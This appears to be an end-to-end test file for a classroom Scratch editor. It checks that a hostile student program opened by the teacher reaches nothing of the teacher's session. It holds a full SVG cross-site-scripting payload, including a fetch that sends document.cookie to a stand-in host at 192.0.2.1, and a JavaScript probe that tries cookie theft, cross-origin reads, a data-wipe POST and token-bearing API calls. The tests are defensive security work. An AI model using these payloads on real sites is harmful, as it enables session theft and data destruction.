"""A hostile program in the editor: it reaches nothing of the teacher's who opens it."""

import json
import urllib.request
from collections.abc import Callable

from playwright.sync_api import Browser
from playwright.sync_api import Page

from tests.e2e.conftest import LAPTOP
from tests.e2e.conftest import PASSWORD
from tests.e2e.scratch.files import from_computer
from tests.e2e.scratch.files import sb3
from tests.e2e.scratch.files import stack
from tests.e2e.scratch.files import STRANGER
from tests.e2e.scratch.lesson import Class
from tests.e2e.scratch.lesson import READY

HOSTILE = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hit=1">
<script>window.hit = 1; fetch("http://192.0.2.1/" + document.cookie)</script>
<image href="http://192.0.2.1/a.png" onerror="window.hit=1"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.hit=1"/>
<iframe src="javascript:parent.hit=1"></iframe></body></foreignObject></svg>"""

ATTACK = """async ({pages, token, project}) => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = await work(); } catch (error) { tried[name] = `${error.name}`; }
  };
  const bearer = {Authorization: `Bearer ${token}`, "Content-Type": "application/json"};
  await attempt("cookie", () => document.cookie);
  await attempt("read", async () =>
    (await fetch(`${pages}/api/v1/class`, {credentials: "include"})).status);
  await attempt("blind", async () => (await fetch(`${pages}/api/v1/me`,
    {mode: "no-cors", credentials: "include"})).type);
  await attempt("write", async () => (await fetch(`${pages}/api/v1/wipe`,
    {method: "POST", mode: "no-cors", credentials: "include", body: "{}"})).type);
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket(pages.replace("http", "ws") +
      "/socket.io/?EIO=4&transport=websocket");
    socket.onmessage = () => done("told");
    socket.onerror = () => done("refused");
  }));
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = `${pages}/teacher`;
    frame.onload = () => {
      try { done(frame.contentDocument?.body?.innerText ? "seen" : "hidden"); }
      catch { done("hidden"); }
    };
    setTimeout(() => done("hidden"), 2000);
    document.body.append(frame);
  }));
  const here = (method, path, body) => fetch(`/api/v1${path}`, {method, headers: bearer, body});
  await attempt("class", async () => (await here("GET", "/class")).status);
  await attempt("train", async () => (await here("POST", "/scratch/train")).status);
  await attempt("save", async () => (await here("POST", "/scratch/programs?name=x", "x")).status);
  await attempt("add", async () => (await here("POST", "/scratch/examples",
    JSON.stringify({id: crypto.randomUUID?.() ?? "0192f7c4-7a00-7000-8000-000000000001",
      label: "Sun", data: "evil"}))).status);
  await attempt("list", async () => (await here("GET", `/projects/${project}/examples`)).status);
  return tried;
}"""


def test_a_hostile_program_that_the_teacher_opens_reaches_nothing_of_the_teachers(
    painter: Browser, klass: Class
) -> None:
    # Saved as a student's program can be: with the editor's own token, past every check of a page.
    at_door = klass.texts.url(klass.ada)
    base, token = at_door.split("/scratch/#")
    request = urllib.request.Request(
        f"{base}/api/v1/scratch/programs?name=Evil",
        data=sb3(stack("event_whenflagclicked"), HOSTILE),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/octet-stream"},
    )
    with urllib.request.urlopen(request) as reply:
        program = json.load(reply)["id"]
    context = painter.new_context(viewport=LAPTOP)
    page = context.new_page()
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    signed_in = page.request.post(f"{klass.box.url}/api/v1/login", data={"password": PASSWORD})
    assert signed_in.ok
    assert any(cookie["name"] == "crowdbox" for cookie in context.cookies())
    url = klass.texts.url(klass.teacher, program=program, watch=True)
    page.goto(f"{url}/program/{program}")
    page.wait_for_selector("body[data-ready]", timeout=READY)
    page.wait_for_timeout(1_000)
    assert page.evaluate("() => window.hit") is None
    # And if something in it ran nevertheless: all that a script of this origin can try.
    about = {
        "pages": klass.box.url, "token": url.rpartition("#")[2], "project": klass.texts.id,
    }  # fmt: skip
    tried = page.evaluate(ATTACK, about)
    assert not any("192.0.2.1" in each for each in asked_for)
    context.close()
    assert tried == {
        "cookie": "", "read": "TypeError", "blind": "TypeError", "write": "TypeError",
        "socket": "refused", "frame": "hidden", "class": 404, "train": 403, "save": 403,
        "add": 403, "list": 404,
    }  # fmt: skip


def test_styles_in_a_drawing_fetch_nothing_while_it_is_measured(
    show: Callable[..., Page], klass: Class
) -> None:
    page = show(klass.texts.url(klass.ada))  # which fails where anything but the box is asked
    wrong: list[str] = []
    page.on("pageerror", lambda error: wrong.append(str(error)))
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>'
        '@import url("http://crowdbox.invalid/x.css"); rect { fill: red }'
        '</style><rect width="31" height="9"/></svg>'
    )
    from_computer(page, sb3({}, svg=drawing))
    page.wait_for_function(STRANGER)
    size = "() => vm.runtime.renderer._allSkins[vm.editingTarget.sprite.costumes[0].skinId].size"
    assert page.evaluate(size) == [32, 10]  # with what the renderer leaves at the edge
    assert wrong == []
